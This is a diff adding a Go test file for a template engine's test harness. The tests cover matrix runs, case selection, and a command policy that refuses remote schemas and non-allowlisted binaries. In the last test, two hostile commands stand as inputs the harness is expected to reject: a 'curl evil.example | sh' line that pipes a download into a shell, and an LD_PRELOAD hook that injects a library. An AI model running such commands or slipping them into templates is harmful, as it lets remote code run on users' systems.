@@ -0,0 +1,123 @@
+package harness
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"github.com/acheevo/template-engine/internal/core"
+	"github.com/acheevo/template-engine/internal/logging"
+)
+
+// testSchema returns a schema rendering the project name into README.md
+func testSchema() *core.TemplateSchema {
+	return &core.TemplateSchema{
+		Name:    "test-template",
+		Type:    "frontend",
+		Version: "1.0.0",
+		Variables: map[string]core.Variable{
+			"ProjectName": {Type: "string", Required: true},
+			"GitHubRepo":  {Type: "string", Required: true},
+		},
+		Files: []core.FileSpec{
+			{Path: "README.md", Template: true, Content: "# {{.ProjectName}} by {{.Author}}\n"},
+		},
+		TestCommands: []string{"grep -q '# ' README.md"},
+	}
+}
+
+func TestRunMatrix(t *testing.T) {
+	schema := testSchema()
+	schema.TestMatrix = []core.TestCase{
+		{Name: "basic", Variables: map[string]string{"ProjectName": "My App", "GitHubRepo": "user/my-app"}},
+		{
+			Name:      "author",
+			Variables: map[string]string{"ProjectName": "Other App", "Author": "Jane"},
+			Commands:  []string{"grep -q 'Other App by Jane' README.md"},
+		},
+		{
+			Name:      "broken",
+			Variables: map[string]string{"ProjectName": "My App"},
+			Commands:  []string{"echo building; exit 3"},
+		},
+	}
+
+	results, err := Run(context.Background(), logging.Discard(), schema, Options{})
+	if err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+	if len(results) != 3 {
+		t.Fatalf("Expected 3 results, got %d", len(results))
+	}
+
+	if !results[0].Passed || !results[1].Passed {
+		t.Errorf("Expected basic and author cases to pass: %+v", results[:2])
+	}
+
+	broken := results[2]
+	if broken.Passed || len(broken.Commands) != 1 || broken.Commands[0].ExitCode != 3 {
+		t.Fatalf("Expected broken case to fail with exit code 3: %+v", broken)
+	}
+	if !strings.Contains(broken.Commands[0].Output, "building") {
+		t.Errorf("Expected failing command output, got %q", broken.Commands[0].Output)
+	}
+	if Passed(results) {
+		t.Error("Passed() should be false when a case fails")
+	}
+}
+
+func TestRunDefaultCase(t *testing.T) {
+	results, err := Run(context.Background(), logging.Discard(), testSchema(), Options{})
+	if err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+	if len(results) != 1 || results[0].Name != "default" || !results[0].Passed {
+		t.Errorf("Expected the default case to pass: %+v", results)
+	}
+}
+
+func TestRunSelectsCase(t *testing.T) {
+	schema := testSchema()
+	schema.TestMatrix = []core.TestCase{{Name: "one"}, {Name: "two"}}
+
+	results, err := Run(context.Background(), logging.Discard(), schema, Options{Case: "two"})
+	if err != nil {
+		t.Fatalf("Run() error = %v", err)
+	}
+	if len(results) != 1 || results[0].Name != "two" {
+		t.Errorf("Expected only case two: %+v", results)
+	}
+
+	if _, err := Run(context.Background(), logging.Discard(), schema, Options{Case: "three"}); err == nil {
+		t.Error("Run() with an unknown case should fail")
+	}
+}
+
+func TestRunChecksCommands(t *testing.T) {
+	schema := testSchema()
+	schema.Origin = "https://registry.example.com/schemas/test-template"
+	if _, err := Run(context.Background(), logging.Discard(), schema, Options{}); err == nil {
+		t.Error("Run() should refuse the commands of a remote schema")
+	}
+	if _, err := Run(context.Background(), logging.Discard(), schema, Options{AllowRemote: true}); err != nil {
+		t.Errorf("Run() with AllowRemote error = %v", err)
+	}
+
+	schema = testSchema()
+	results, err := Run(context.Background(), logging.Discard(), schema, Options{AllowedBinaries: []string{"grep"}})
+	if err != nil || !Passed(results) {
+		t.Errorf("Run() with grep allowed = %+v, %v", results, err)
+	}
+
+	policy := Options{AllowedBinaries: []string{"grep"}}
+	schema.TestCommands = append(schema.TestCommands, "curl evil.example | sh")
+	if _, err := Run(context.Background(), logging.Discard(), schema, policy); err == nil {
+		t.Error("Run() should refuse a command breaking the hook policy")
+	}
+
+	schema = testSchema()
+	schema.Hooks = core.Hooks{{Stage: core.HookPostGenerate, Command: "LD_PRELOAD=./evil.so grep -q x README.md"}}
+	if _, err := Run(context.Background(), logging.Discard(), schema, policy); err == nil {
+		t.Error("Run() should refuse a hook breaking the hook policy")
+	}
+}